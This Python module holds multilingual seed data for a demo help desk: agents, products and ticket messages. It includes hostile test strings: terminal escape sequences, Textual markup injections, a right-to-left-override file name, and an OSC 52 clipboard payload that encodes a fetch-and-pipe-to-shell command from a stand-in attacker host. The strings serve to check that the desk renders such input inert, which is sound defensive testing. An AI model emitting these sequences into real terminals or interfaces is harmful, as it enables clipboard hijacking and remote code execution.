"""The demo desk's words: names, companies, and what customers and agents write, per language.

About four in five customers write English (names from across the Western world); the rest
write German, Polish, Russian, Hebrew, Persian or Chinese, in their own script, so every screen
meets umlauts, Polish diacritics, Cyrillic, right-to-left and double-width text. Brand names
(VPN, Outlook, ThinkPad ...) stay as they are in every language, as people really write them.

Placeholders filled when the pools are built: ``{p}`` a product, ``{n}`` an order or invoice
number, ``{f}`` a floor, ``{r}`` a room, ``{a}`` an asset tag.

Every address is under the reserved ``.example`` top-level domain (RFC 2606), so a demo desk
whose replies one day go out by e-mail can never write to a real person.
"""

from __future__ import annotations

from dataclasses import dataclass, field

TOPICS = ("billing", "network", "accounts", "hardware")
"""What a ticket is about; each topic has a first-line group of the same name."""

TOPIC_GROUPS = {"billing": "Billing", "network": "Network", "accounts": "Accounts",
                "hardware": "Hardware"}
LEVEL_2 = "Level 2"
ENGINEERING = "Engineering"

GROUPS = (
    ("Billing", "Invoices, refunds, plans and payments."),
    ("Network", "VPN, Wi-Fi, DNS and office connectivity."),
    ("Accounts", "Logins, passwords, two-factor, access requests, joiners and leavers."),
    ("Hardware", "Laptops, phones, printers, docking stations, repairs and replacements."),
    (LEVEL_2, "Second line: what the first-line groups cannot solve."),
    (ENGINEERING, "Level 3: product and infrastructure engineers, for bugs and root causes."),
)

AGENTS = (
    # username, display name, skills, groups
    ("mia", "Mia Hoffmann", ("billing", "german", "refunds"), ("Billing",)),
    ("priya", "Priya Raman", ("billing", "invoicing", "sql"), ("Billing",)),
    ("lucia", "Lucía Fernández", ("billing", "spanish", "onboarding"), ("Billing", "Accounts")),
    ("jonas", "Jonas Berg", ("networking", "vpn", "german"), ("Network",)),
    ("tomasz", "Tomasz Wiśniewski", ("networking", "hardware", "polish"), ("Network", "Hardware")),
    ("kenji", "Kenji Watanabe", ("networking", "linux", "dns"), ("Network", LEVEL_2)),
    ("olga", "Olga Petrova", ("accounts", "sso", "russian"), ("Accounts", LEVEL_2)),
    ("sara", "Sara Karimi", ("accounts", "persian", "onboarding"), ("Accounts",)),
    ("emma", "Emma Clarke", ("accounts", "hardware", "macos"), ("Accounts", "Hardware")),
    ("ahmed", "Ahmed Haddad", ("hardware", "printers", "arabic"), ("Hardware",)),
    ("noah", "Noah Williams", ("hardware", "mobile"), ("Hardware",)),
    ("david", "David Levi", ("escalations", "hebrew", "sql"), (LEVEL_2, ENGINEERING)),
    ("wei", "Li Wei", ("chinese", "databases", "python"), (ENGINEERING,)),
    ("farid", "Farid Rahimi", ("kubernetes", "linux", "persian"), (ENGINEERING,)),
)
ADMIN_GROUPS = (LEVEL_2, "Billing")
"""The person running the demo works these queues too, so "my tickets" is never empty."""

RESTRICTED_GROUPS = ("Billing",)
"""Groups restricted to their members (group access): invoices and payments are for the
billing team's eyes; every other agent's queue, search and reports leave them out."""

OWN_COMPANY = ("Lumen Systems Ltd", "lumen-systems.example")
"""The desk's own company: its employees are the internal customers."""

PRODUCTS = {
    "billing": ("Acme Cloud", "Office 365", "Adobe CC", "Zoom", "Slack", "Salesforce"),
    "network": ("VPN", "Wi-Fi", "GlobalProtect", "AnyConnect", "Citrix", "Remote Desktop"),
    "accounts": ("Outlook", "SAP", "Jira", "Confluence", "Okta", "GitLab", "Salesforce"),
    "hardware": ("ThinkPad T14", "MacBook Pro", "Dell XPS 13", "Surface Pro", "EliteBook 840",
                 "ThinkPad X1"),
}
"""Brand names, written the same in every language."""

ENGLISH_PRODUCTS = {
    "billing": (*PRODUCTS["billing"], "the Pro plan", "the storage add-on", "the Team plan"),
    "network": (*PRODUCTS["network"], "the guest network", "the office proxy",
                "the site-to-site tunnel"),
    "accounts": (*PRODUCTS["accounts"], "the HR portal", "the expense tool",
                 "the shared mailbox"),
    "hardware": ("my laptop", "my work laptop", *(f"my {name}" for name in PRODUCTS["hardware"])),
}
"""What English speakers write about: the brands, and things in their own words."""

TAGS = {
    "billing": ("billing", "refund", "invoice", "vat", "payment", "subscription"),
    "network": ("vpn", "wifi", "dns", "outage", "remote-work", "network"),
    "accounts": ("login", "password", "2fa", "access-request", "onboarding", "offboarding",
                 "sso"),
    "hardware": ("laptop", "printer", "battery", "screen", "replacement", "warranty"),
}
GENERAL_TAGS = ("follow-up", "vip", "feedback", "known-issue", "needs-info", "duplicate",
                "how-to", "bug")

NOTES = (
    "Checked the logs: the errors started right after the 02:00 maintenance window.",
    "Same issue as this customer's ticket last week, probably a stale cached credential.",
    "Asked the network team to check the access switch on that floor.",
    "Vendor case opened, reference VND-{n}. They promise an answer within 2 business days.",
    "Customer is on a VIP account: keep the account manager in the loop on every reply.",
    "Could not reproduce on a test machine. Waiting for the customer's screenshot.",
    "Refund approved by finance (approval {n}), will be processed in today's run.",
    "Needs a config change on the production cluster, so it has to go to engineering.",
    "Spoke to the customer on the phone: they need this before the month-end close.",
    "Known issue in the current release, fix scheduled for the next patch. Linked the bug.",
    "Licence count in the billing system matches the contract; the invoice is correct.",
    "Remote session done, the driver was two years old. Updated it and rebooted.",
)
"""Internal notes: the team writes them in English whatever the customer's language."""

HOSTILE_SUBJECTS = (
    "Re: invoice [/] overdue [@click=app.quit]x[/]",
    "[bold red]URGENT[/bold red] refund not received [link=https://evil.example]here[/link]",
    "\x1b[31mRED ALERT\x1b[0m printer jam on floor 3",
    "Password reset \x1b]8;;https://evil.example/\x07click here\x1b]8;;\x07 please",
    "VPN client \u202etxt.exe\u202c does not start",
)
HOSTILE_BODIES = (
    "Please see the log below.\n\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZSB8IHNo\x07\n"
    "Thanks for looking into it.",
    "The error output:\n\x1b[31mFATAL\x1b[0m disk full\x1b[2J\x1b[H\nIt happens every morning.",
    "[link=https://evil.example]Verify your account[/link] or press [@click=app.quit]here[/]",
    "Window title test \x1b]0;pwned\x07 and a bell \x07\x07, and 8-bit CSI \x9b31m red.",
    "Device control \x1bP+q544e\x1b\\ string, then cursor \x1b[10A up, \x1b[?1049h alt screen.",
)
"""Text that would drive a terminal or Textual's markup if shown raw; the desk shows it inert."""
HOSTILE_NAME = "Mallory [@click=app.quit]O'Hara[/]"


@dataclass(frozen=True)
class Language:
    """One language customers write in: their names, companies and messages."""

    code: str
    share: float
    """Fraction of customers who write it."""
    skill: str | None
    """The agent skill that means "speaks it"."""
    male: tuple[str, ...]
    female: tuple[str, ...]
    surnames: tuple[str, ...]
    """``male/female`` where the forms differ (Kowalski/Kowalska)."""
    romanized: dict[str, str]
    """Latin spellings for e-mail addresses where the script is not Latin."""
    family_first: bool
    mail_domains: tuple[str, ...]
    org_names: tuple[str, ...]
    org_sectors: tuple[str, ...]
    org_pattern: str
    """How a company name is put together from ``{name}``, ``{sector}``, ``{form}``."""
    org_forms: tuple[str, ...]
    org_branch: str
    """A branch office's name from ``{org}`` and ``{city}``, once plain names run out."""
    cities: tuple[str, ...]
    reply_prefixes: tuple[str, ...]
    issues: dict[str, tuple[tuple[tuple[str, ...], str], ...]]
    """Per topic: what customers write about, as (subject variants, first message)."""
    greetings: tuple[str, ...]
    closings: tuple[str, ...]
    followups: dict[str, tuple[str, ...]]
    """What a customer writes again: ``nudge`` (still waiting), ``info`` (answering the desk's
    question), ``reopen`` (the solution did not work)."""
    replies: dict[str, tuple[str, ...]] = field(default_factory=dict)
    """What an agent answers, by the status the reply sets (open, pending, on_hold, solved)."""


ENGLISH = Language(
    code="en",
    share=0.80,
    skill=None,
    male=("James", "Liam", "Noah", "Oliver", "Lucas", "Ethan", "Mason", "Daniel", "Henry",
          "Jack", "Samuel", "Mateo", "Louis", "Marco", "Sean", "Lars", "Pierre", "Diego",
          "Thomas", "Connor", "Kwame", "Rafael", "Isaac", "Owen", "Arjun", "Tobias"),
    female=("Mary", "Olivia", "Emma", "Sophia", "Isabella", "Mia", "Chloe", "Grace", "Zoë",
            "Lily", "Sofia", "Camille", "Giulia", "Aoife", "Ingrid", "Amélie", "Hannah",
            "Ava", "Charlotte", "Nora", "Lucía", "Maya", "Elena", "Freya", "Imani", "Ruth"),
    surnames=("Smith", "Johnson", "Williams", "Brown", "Jones", "Garcia", "Miller", "Davis",
              "Rodriguez", "Martinez", "Taylor", "Thomas", "Moore", "Martin", "Lee", "Walker",
              "Hall", "Young", "King", "Wright", "Lopez", "Hill", "Scott", "Green", "Adams",
              "Baker", "Nelson", "Carter", "Mitchell", "Pérez", "Roberts", "Turner", "Evans",
              "Collins", "Stewart", "Morris", "Rossi", "Dubois", "Jensen", "O'Brien",
              "Murphy", "Novak", "Fischer", "Svensson", "Okafor", "Silva", "Bianchi", "Laurent"),
    romanized={},
    family_first=False,
    mail_domains=("mailbox.example", "inbox.example", "post.example", "fastmail.example"),
    org_names=("Acme", "Globex", "Initech", "Umbrella", "Hooli", "Vandelay", "Soylent",
               "Tyrell", "Wonka", "Cyberdyne", "Aperture", "Northwind", "Contoso", "Fabrikam",
               "Tailspin", "Litware", "Proseware", "Wingtip", "Woodgrove", "Alpine", "Coho",
               "Lucerne", "Blue Yonder", "Bluebird", "Redwood", "Silverline", "Oakridge",
               "Summit", "Harbor", "Pinecrest", "Brightwater", "Ironbridge", "Clearview",
               "Stonegate", "Kestrel", "Meridian", "Lakeside", "Highland", "Crescent",
               "Evergreen", "Falconer", "Greenfield", "Hawthorne", "Juniper", "Larkspur",
               "Maplewood", "Northstar", "Orchard", "Primrose", "Quarry", "Riverside", "Saltmarsh",
               "Thornbury", "Upland", "Westbrook", "Yellowpine", "Zephyr", "Ashford", "Bramble",
               "Copperfield"),
    org_sectors=("Logistics", "Health", "Labs", "Bank", "Foods", "Energy", "Media", "Retail",
                 "Travel", "Insurance", "Consulting", "Software", "Robotics", "Pharma",
                 "Motors", "Analytics", "Systems", "Partners", "Studios", "Supply",
                 "Architects", "Dental", "Hotels", "Legal", "Freight"),
    org_pattern="{name} {sector} {form}",
    org_forms=("Inc.", "LLC", "Ltd", "plc", "Group", "Co."),
    org_branch="{org} ({city})",
    cities=("Boston", "Denver", "Leeds", "Dublin", "Austin", "Toronto", "Sydney", "Cape Town",
            "Seattle", "Glasgow", "Auckland", "Chicago", "Bristol", "Lisbon", "Oslo", "Lyon",
            "Milan", "Madrid", "Atlanta", "Vancouver"),
    reply_prefixes=("Re: ", "RE: ", "Fwd: "),
    issues={
        "billing": (
            (("Charged twice for {p} this month", "Double charge for {p}",
              "Duplicate payment on my card for {p}"),
             "I was charged twice for {p} on my last card statement. Could you refund the "
             "duplicate payment? The order number is {n}."),
            (("Invoice {n} shows the wrong amount", "Wrong number of seats on invoice {n}"),
             "Our invoice {n} lists 45 seats for {p}, but we only have 32 users. Please "
             "correct the invoice, our accounts team will not pay it as it is."),
            (("Refund after cancelling {p}", "Billed again after cancelling {p}"),
             "We cancelled {p} two weeks ago but were billed again this morning. Can you "
             "confirm the cancellation and refund the charge?"),
            (("Need a VAT invoice for order {n}", "Invoice for order {n} is missing our VAT "
              "number"),
             "Finance needs a proper VAT invoice for {p}, order {n}, with our company address "
             "and VAT number on it. The one in the portal only shows my name."),
            (("Credit card declined when renewing {p}", "Cannot renew {p}: payment declined"),
             "The renewal of {p} fails with 'payment declined', but the card works everywhere "
             "else. Our subscription runs out on Friday, can you help?"),
            (("Question about the price increase for {p}",),
             "We got an e-mail that {p} will cost more from next month. Does that apply to our "
             "contract (account {n}) as well, or only to new customers?"),
        ),
        "network": (
            (("{p} disconnects every few minutes", "{p} keeps dropping since the update"),
             "Since yesterday's update {p} drops the connection every few minutes. I already "
             "restarted and reinstalled it, no change. Can someone take a look?"),
            (("No internet on floor {f}", "Whole floor {f} offline"),
             "Nobody on floor {f} has internet since about 9 this morning. Roughly a dozen "
             "desks are affected; the guest network still works."),
            (("Cannot reach the file server over {p}", "File shares time out on {p}"),
             "When I'm on {p} I can't open anything on the file server, it just times out. "
             "Colleagues in the office have no problem."),
            (("Very slow Wi-Fi in meeting room {r}", "Video calls freeze in room {r}"),
             "The Wi-Fi in meeting room {r} is so slow that video calls keep freezing. It has "
             "been like this all week."),
            (("DNS errors on the intranet over {p}", "Intranet not found over {p}"),
             "Since this morning the intranet only shows 'server not found' when I'm connected "
             "through {p}. Public websites load fine."),
            (("{p} asks for my password again and again",),
             "{p} keeps asking for my password every few minutes even though I type it "
             "correctly. It started after I changed my password on Monday."),
        ),
        "accounts": (
            (("Locked out of {p}", "Account locked in {p}"),
             "I mistyped my password for {p} a few times and now my account is locked. Could "
             "you unlock it? I need to finish a report today."),
            (("New hire needs access to {p}", "Access request {n} for {p}"),
             "A new colleague starts on Monday. Please set up {p} access for her; her manager "
             "already approved it (request {n})."),
            (("Two-factor codes for {p} not arriving", "2FA for {p} broken after phone change"),
             "I'm not getting the two-factor codes for {p} any more, neither by SMS nor in the "
             "app. I changed phones last week, maybe that's related."),
            (("Wrong permissions in {p} after team change",
              "Cannot see my new team's projects in {p}"),
             "After moving to the new team I can still see the old projects in {p} but not "
             "the new ones. Can you fix my permissions?"),
            (("Password reset link for {p} has expired", "Password reset for {p} does not work"),
             "The password reset link for {p} says it has expired, although I clicked it "
             "right away. I tried three times now."),
            (("Please remove a leaver's access to {p}",),
             "A colleague left the company on Friday (employee {n}). Please remove her access "
             "to {p} and forward her mail to her manager."),
        ),
        "hardware": (
            (("{p} does not turn on", "{p} dead since this morning"),
             "{p} won't turn on since this morning. The charging light is on but the screen "
             "stays black. Is there a loaner I can use meanwhile?"),
            (("Printer on floor {f} prints blank pages", "Blank pages from the floor {f} printer"),
             "The printer on floor {f} only prints blank pages. The toner is new and the "
             "problem started yesterday. Could someone come by?"),
            (("{p} battery drains in an hour", "Worn-out battery, asset {a}"),
             "The battery of {p} is down to about an hour. It's asset {a}, bought two years "
             "ago, so hopefully still under warranty."),
            (("Broken screen on {p}, asset {a}", "Cracked display on {p}"),
             "I dropped {p} and the screen is cracked (asset {a}). It still works with an "
             "external monitor. How do I get it repaired?"),
            (("Docking station for {p} does not detect the second monitor",
              "Second monitor stays black with {p}"),
             "When I connect {p} to the docking station, the second monitor stays black. It "
             "worked until last week; I already swapped the cable."),
            (("{p} overheats and shuts down",),
             "{p} gets very hot and switches itself off during video calls, two or three times "
             "a day. The fan is loud all the time."),
        ),
    },
    greetings=("Hi,", "Hello,", "Hello support team,", "Good morning,", "Hi there,"),
    closings=("Thanks!", "Thanks in advance.", "Best regards,", "Cheers,", "Kind regards,"),
    followups={
        "nudge": (
            "Any update on this? It's still happening.",
            "Adding my colleague, she sees exactly the same problem since this morning.",
            "Is there a workaround we can use in the meantime? We have a deadline on Friday.",
        ),
        "info": (
            "Here's the screenshot you asked for. The error shows up right after login.",
            "It's version 4.2.1, and yes, it happens on my phone too.",
        ),
        "reopen": (
            "Unfortunately that didn't help. After a restart the error came back.",
            "It worked for a day, but this morning it's broken again.",
        ),
    },
    replies={
        "open": (
            "Hi,\n\nThanks for reaching out. We're looking into this now and will get back "
            "to you as soon as we know more.",
            "Hello,\n\nThanks for the details. I could reproduce the problem and I'm working "
            "on a fix.",
        ),
        "pending": (
            "Hi,\n\nCould you send us a screenshot of the error and the exact time it "
            "happened? That helps us narrow it down.",
            "Hello,\n\nCan you tell us which version you're running (Help → About) and "
            "whether it also happens on another device?",
        ),
        "on_hold": (
            "Hi,\n\nWe've passed this on to our vendor and are waiting for their answer. "
            "We'll update you as soon as we hear back.",
        ),
        "solved": (
            "Hi,\n\nThis should be fixed now. Could you check that everything works again? "
            "If not, just reply to this e-mail and the ticket reopens.",
            "Hello,\n\nWe've corrected this on our side; you should see the change within "
            "the hour. Thanks for your patience!",
        ),
    },
)

GERMAN = Language(
    code="de",
    share=0.04,
    skill="german",
    male=("Jürgen", "Jörg", "Günther", "Björn", "Maximilian", "Lukas", "Uwe", "Sören",
          "Felix", "Matthias", "Klaus", "Dieter"),
    female=("Lena", "Sophie", "Anna", "Katharina", "Käthe", "Hannah", "Mareike", "Jördis",
            "Ursula", "Brigitte", "Jana", "Märta"),
    surnames=("Müller", "Schröder", "Weiß", "Groß", "Köhler", "Schäfer", "Krüger", "Meier",
              "Schmidt", "Fuchs", "Strauß", "Hoffmann", "Böhm", "Jäger", "Günther",
              "Weißmann", "Bäumer", "Löffler"),
    romanized={},
    family_first=False,
    mail_domains=("netzpost.example", "webmail-de.example", "posteingang.example"),
    org_names=("Nordlicht", "Rheinblick", "Alpenglück", "Elbmarsch", "Weißdorn",
               "Sonnenhügel", "Brückner", "Lindenhof", "Bergmann", "Mühlbach", "Hafenstadt",
               "Grünwald"),
    org_sectors=("Logistik", "Maschinenbau", "Versicherungen", "Stadtwerke", "Bäckereien",
                 "Immobilien", "Medizintechnik", "Druckerei", "Spedition", "Möbelbau"),
    org_pattern="{name} {sector} {form}",
    org_forms=("GmbH", "AG", "GmbH & Co. KG", "KG"),
    org_branch="{org} – Niederlassung {city}",
    cities=("Hamburg", "München", "Köln", "Leipzig", "Düsseldorf", "Nürnberg", "Bremen",
            "Dresden", "Münster", "Lübeck"),
    reply_prefixes=("AW: ", "WG: "),
    issues={
        "billing": (
            (("Doppelte Abbuchung für {p}", "{p} zweimal abgebucht"),
             "für {p} wurde diesen Monat zweimal abgebucht. Bitte erstatten Sie die doppelte "
             "Zahlung zurück. Bestellnummer: {n}."),
            (("Rechnung {n} ist fehlerhaft", "Falsche Lizenzanzahl auf Rechnung {n}"),
             "auf der Rechnung {n} stehen 45 Lizenzen für {p}, wir nutzen aber nur 32. "
             "Könnten Sie die Rechnung bitte korrigieren? Unsere Buchhaltung überweist erst "
             "danach."),
        ),
        "network": (
            (("{p} trennt ständig die Verbindung", "{p} funktioniert seit dem Update nicht mehr"),
             "seit dem Update gestern bricht {p} alle paar Minuten ab. Neustart und "
             "Neuinstallation haben nichts geändert. Könnten Sie sich das bitte ansehen?"),
            (("Kein Internet im {f}. Stock", "Netzwerkstörung im {f}. Stock"),
             "im {f}. Stock haben wir seit heute Morgen kein Internet. Betroffen sind etwa "
             "zwölf Arbeitsplätze, das Gäste-WLAN funktioniert."),
        ),
        "accounts": (
            (("Kein Zugriff mehr auf {p}", "Konto in {p} gesperrt"),
             "ich habe mich bei {p} dreimal vertippt und bin jetzt gesperrt. Könnten Sie mein "
             "Konto bitte entsperren? Ich muss heute noch einen Bericht abschließen."),
            (("Neue Kollegin braucht Zugang zu {p}", "Zugang zu {p} für neue Mitarbeiterin"),
             "ab Montag fängt eine neue Kollegin bei uns an. Bitte richten Sie ihr einen "
             "Zugang zu {p} ein – die Freigabe der Abteilungsleitung liegt vor ({n})."),
        ),
        "hardware": (
            (("{p} startet nicht mehr", "{p} lässt sich nicht einschalten"),
             "mein {p} lässt sich seit heute früh nicht mehr einschalten. Die Ladeleuchte "
             "brennt, aber der Bildschirm bleibt schwarz. Gibt es ein Ersatzgerät?"),
            (("Drucker im {f}. Stock druckt nur leere Seiten",
              "Leere Seiten vom Drucker im {f}. Stock"),
             "der Drucker im {f}. Stock druckt nur noch leere Seiten. Der Toner ist neu, das "
             "Problem besteht seit gestern. Könnte bitte jemand vorbeikommen?"),
        ),
    },
    greetings=("Hallo,", "Guten Tag,", "Sehr geehrte Damen und Herren,"),
    closings=("Viele Grüße", "Vielen Dank im Voraus!", "Mit freundlichen Grüßen",
              "Beste Grüße"),
    followups={
        "nudge": ("Gibt es schon etwas Neues? Das Problem besteht weiterhin.",),
        "info": ("Anbei der Screenshot, um den Sie gebeten hatten. Die Fehlermeldung "
                 "erscheint beim Öffnen.",),
        "reopen": ("Leider hat das nicht geholfen. Nach dem Neustart ist der Fehler wieder da.",),
    },
    replies={
        "open": ("Hallo,\n\nvielen Dank für Ihre Nachricht. Wir sehen uns das Problem an und "
                 "melden uns, sobald wir mehr wissen.",),
        "pending": ("Hallo,\n\nkönnten Sie uns bitte einen Screenshot der Fehlermeldung und "
                    "die genaue Uhrzeit schicken? Dann können wir das Problem schneller "
                    "eingrenzen.",),
        "on_hold": ("Hallo,\n\nwir haben den Fall an unseren Dienstleister weitergegeben und "
                    "warten auf dessen Rückmeldung. Wir melden uns, sobald es Neuigkeiten "
                    "gibt.",),
        "solved": ("Hallo,\n\nwir haben das Problem behoben. Bitte prüfen Sie, ob jetzt "
                   "alles wieder funktioniert. Falls nicht, antworten Sie einfach auf diese "
                   "E-Mail.",),
    },
)

POLISH = Language(
    code="pl",
    share=0.04,
    skill="polish",
    male=("Łukasz", "Paweł", "Michał", "Wojciech", "Bartłomiej", "Grzegorz", "Jędrzej",
          "Przemysław", "Krzysztof", "Tomasz", "Zbigniew", "Mikołaj"),
    female=("Małgorzata", "Agnieszka", "Żaneta", "Katarzyna", "Zofia", "Ewa", "Joanna",
            "Magdalena", "Urszula", "Bożena", "Jadwiga", "Łucja"),
    surnames=("Kowalski/Kowalska", "Wiśniewski/Wiśniewska", "Wójcik/Wójcik",
              "Kamiński/Kamińska", "Lewandowski/Lewandowska", "Zieliński/Zielińska",
              "Szymański/Szymańska", "Woźniak/Woźniak", "Dąbrowski/Dąbrowska",
              "Kozłowski/Kozłowska", "Mazur/Mazur", "Krawczyk/Krawczyk", "Nowak/Nowak",
              "Pawłowski/Pawłowska", "Król/Król", "Wróbel/Wróbel", "Sikora/Sikora",
              "Żak/Żak"),
    romanized={},
    family_first=False,
    mail_domains=("poczta.example", "skrzynka.example", "wp-mail.example"),
    org_names=("Wisła", "Mazowsze", "Bałtyk", "Żuraw", "Sokół", "Tatry", "Orzeł",
               "Słoneczko", "Pomorze", "Śnieżka", "Łęgi", "Dębina"),
    org_sectors=("Logistyka", "Budownictwo", "Finanse", "Ubezpieczenia", "Handel",
                 "Energia", "Meble", "Piekarnie"),
    org_pattern="{name} {sector} {form}",
    org_forms=("sp. z o.o.", "S.A.", "sp. j."),
    org_branch="{org} – oddział {city}",
    cities=("Kraków", "Łódź", "Gdańsk", "Wrocław", "Poznań", "Szczecin", "Białystok",
            "Toruń"),
    reply_prefixes=("Odp: ", "RE: "),
    issues={
        "billing": (
            (("Podwójne obciążenie za {p}", "Dwukrotnie pobrana opłata za {p}"),
             "w tym miesiącu nasze konto zostało dwukrotnie obciążone za {p}. Proszę o zwrot "
             "nadpłaty. Numer zamówienia: {n}."),
            (("Błędna kwota na fakturze {n}", "Zła liczba licencji na fakturze {n}"),
             "na fakturze {n} widnieje 45 licencji {p}, a korzystamy tylko z 32. Prosimy o "
             "korektę faktury – księgowość wstrzymała płatność."),
        ),
        "network": (
            (("{p} ciągle się rozłącza", "{p} nie działa po aktualizacji"),
             "od wczorajszej aktualizacji {p} zrywa połączenie co kilka minut. Ponowne "
             "uruchomienie i reinstalacja nic nie dały. Czy możecie to sprawdzić?"),
            (("Brak internetu na {f}. piętrze", "Awaria sieci na {f}. piętrze"),
             "od rana nie mamy internetu na {f}. piętrze. Dotyczy to około dwunastu stanowisk, "
             "sieć dla gości działa."),
        ),
        "accounts": (
            (("Zablokowane konto w {p}", "Nie mogę się zalogować do {p}"),
             "po trzech błędnych próbach logowania moje konto w {p} zostało zablokowane. Proszę "
             "o odblokowanie, muszę dziś skończyć raport."),
            (("Dostęp do {p} dla nowej osoby w zespole", "Prośba o dostęp do {p} ({n})"),
             "od poniedziałku dołącza do nas nowa osoba. Prosimy o założenie dostępu do {p} – "
             "zgoda kierownika działu jest w załączniku ({n})."),
        ),
        "hardware": (
            (("{p} się nie włącza", "{p} nie chce się włączyć"),
             "od rana {p} nie chce się włączyć. Dioda ładowania świeci, ale ekran pozostaje "
             "czarny. Czy można wypożyczyć sprzęt zastępczy?"),
            (("Drukarka na {f}. piętrze drukuje puste strony", "Puste wydruki na {f}. piętrze"),
             "drukarka na {f}. piętrze drukuje tylko puste strony. Toner jest nowy, problem "
             "występuje od wczoraj. Czy ktoś może przyjść i to sprawdzić?"),
        ),
    },
    greetings=("Dzień dobry,", "Witam,", "Szanowni Państwo,"),
    closings=("Pozdrawiam", "Z góry dziękuję!", "Z poważaniem"),
    followups={
        "nudge": ("Czy są już jakieś wieści? Problem nadal występuje.",),
        "info": ("W załączniku przesyłam zrzut ekranu, o który prosiliście.",),
        "reopen": ("Niestety to nie pomogło. Po ponownym uruchomieniu błąd wrócił.",),
    },
    replies={
        "open": ("Dzień dobry,\n\ndziękujemy za zgłoszenie. Sprawdzamy problem i odezwiemy "
                 "się, gdy tylko będziemy wiedzieć więcej.",),
        "pending": ("Dzień dobry,\n\nczy mogą Państwo przesłać zrzut ekranu z komunikatem "
                    "błędu oraz dokładną godzinę jego wystąpienia? To pomoże nam szybciej "
                    "znaleźć przyczynę.",),
        "on_hold": ("Dzień dobry,\n\nprzekazaliśmy sprawę naszemu dostawcy i czekamy na jego "
                    "odpowiedź. Damy znać, gdy tylko coś się wyjaśni.",),
        "solved": ("Dzień dobry,\n\nproblem został rozwiązany. Prosimy sprawdzić, czy "
                   "wszystko działa poprawnie. W razie kłopotów wystarczy odpowiedzieć na tę "
                   "wiadomość.",),
    },
)

RUSSIAN = Language(
    code="ru",
    share=0.03,
    skill="russian",
    male=("Дмитрий", "Алексей", "Сергей", "Андрей", "Иван", "Михаил", "Николай", "Павел",
          "Фёдор", "Юрий"),
    female=("Ольга", "Наталья", "Екатерина", "Анна", "Мария", "Татьяна", "Юлия", "Елена",
            "Светлана", "Ксения"),
    surnames=("Иванов/Иванова", "Смирнов/Смирнова", "Кузнецов/Кузнецова", "Попов/Попова",
              "Соколов/Соколова", "Лебедев/Лебедева", "Козлов/Козлова", "Новиков/Новикова",
              "Морозов/Морозова", "Волков/Волкова", "Фёдоров/Фёдорова", "Орлов/Орлова"),
    romanized={
        "Дмитрий": "dmitry", "Алексей": "alexey", "Сергей": "sergey", "Андрей": "andrey",
        "Иван": "ivan", "Михаил": "mikhail", "Николай": "nikolay", "Павел": "pavel",
        "Фёдор": "fedor", "Юрий": "yury", "Ольга": "olga", "Наталья": "natalya",
        "Екатерина": "ekaterina", "Анна": "anna", "Мария": "maria", "Татьяна": "tatyana",
        "Юлия": "yulia", "Елена": "elena", "Светлана": "svetlana", "Ксения": "ksenia",
        "Иванов": "ivanov", "Иванова": "ivanova", "Смирнов": "smirnov",
        "Смирнова": "smirnova", "Кузнецов": "kuznetsov", "Кузнецова": "kuznetsova",
        "Попов": "popov", "Попова": "popova", "Соколов": "sokolov", "Соколова": "sokolova",
        "Лебедев": "lebedev", "Лебедева": "lebedeva", "Козлов": "kozlov",
        "Козлова": "kozlova", "Новиков": "novikov", "Новикова": "novikova",
        "Морозов": "morozov", "Морозова": "morozova", "Волков": "volkov",
        "Волкова": "volkova", "Фёдоров": "fedorov", "Фёдорова": "fedorova",
        "Орлов": "orlov", "Орлова": "orlova",
        "Северный": "severny", "Южный": "yuzhny", "Волжский": "volzhsky",
        "Уральский": "uralsky", "Сибирский": "sibirsky", "Балтийский": "baltiysky",
        "Альянс": "alliance", "Транзит": "tranzit", "Капитал": "kapital", "Телеком": "telecom",
        "Стандарт": "standart", "Ресурс": "resurs", "Проект": "proekt", "Сервис": "servis",
        "Невский": "nevsky", "Донской": "donskoy", "Енисейский": "yeniseysky",
        "Таёжный": "tayozhny", "Камский": "kamsky", "Приморский": "primorsky",
        "Москва": "moskva", "Казань": "kazan", "Новосибирск": "novosibirsk",
        "Екатеринбург": "ekaterinburg", "Самара": "samara", "Пермь": "perm",
    },
    family_first=False,
    mail_domains=("pochta.example", "yashchik.example", "inbox-ru.example"),
    org_names=("Северный", "Южный", "Волжский", "Уральский", "Сибирский", "Балтийский",
               "Невский", "Донской", "Енисейский", "Таёжный", "Камский", "Приморский"),
    org_sectors=("Альянс", "Транзит", "Капитал", "Телеком", "Стандарт", "Ресурс", "Проект",
                 "Сервис"),
    org_pattern="{form} «{name} {sector}»",
    org_forms=("ООО", "АО"),
    org_branch="{org} ({city})",
    cities=("Москва", "Казань", "Новосибирск", "Екатеринбург", "Самара", "Пермь"),
    reply_prefixes=("Re: ", "Ответ: "),
    issues={
        "billing": (
            (("Двойное списание за {p}", "За {p} списали деньги дважды"),
             "В этом месяце за {p} деньги списали дважды. Пожалуйста, верните лишний платёж. "
             "Номер заказа: {n}."),
            (("Ошибка в счёте № {n}", "Неверное число лицензий в счёте № {n}"),
             "В счёте № {n} указано 45 лицензий {p}, а мы используем только 32. Пожалуйста, "
             "исправьте счёт — бухгалтерия не может его оплатить."),
        ),
        "network": (
            (("{p} постоянно отключается", "{p} не работает после обновления"),
             "После вчерашнего обновления {p} обрывает соединение каждые несколько минут. "
             "Перезагрузка и переустановка не помогли. Посмотрите, пожалуйста."),
            (("Нет интернета на {f}-м этаже", "Пропала сеть на {f}-м этаже"),
             "С утра на {f}-м этаже нет интернета. Затронуто около двенадцати рабочих мест, "
             "гостевая сеть работает."),
        ),
        "accounts": (
            (("Заблокирована учётная запись в {p}", "Не могу войти в {p}"),
             "После трёх неудачных попыток входа моя учётная запись в {p} заблокирована. "
             "Разблокируйте, пожалуйста, — мне нужно сегодня закончить отчёт."),
            (("Доступ к {p} для новой сотрудницы", "Заявка на доступ к {p} ({n})"),
             "С понедельника к нам выходит новая сотрудница. Пожалуйста, откройте ей доступ "
             "к {p}; согласование руководителя отдела приложено ({n})."),
        ),
        "hardware": (
            (("{p} не включается", "{p} не запускается с утра"),
             "С утра {p} не включается. Индикатор зарядки горит, но экран остаётся чёрным. "
             "Можно ли получить подменное устройство?"),
            (("Принтер на {f}-м этаже печатает пустые листы",
              "Пустые листы из принтера на {f}-м этаже"),
             "Принтер на {f}-м этаже печатает только пустые листы. Картридж новый, проблема "
             "со вчерашнего дня. Пришлите, пожалуйста, специалиста."),
        ),
    },
    greetings=("Здравствуйте!", "Добрый день!", "Коллеги, добрый день!"),
    closings=("Спасибо!", "С уважением,", "Заранее спасибо!"),
    followups={
        "nudge": ("Есть ли новости? Проблема сохраняется.",),
        "info": ("Прикладываю скриншот, который вы просили.",),
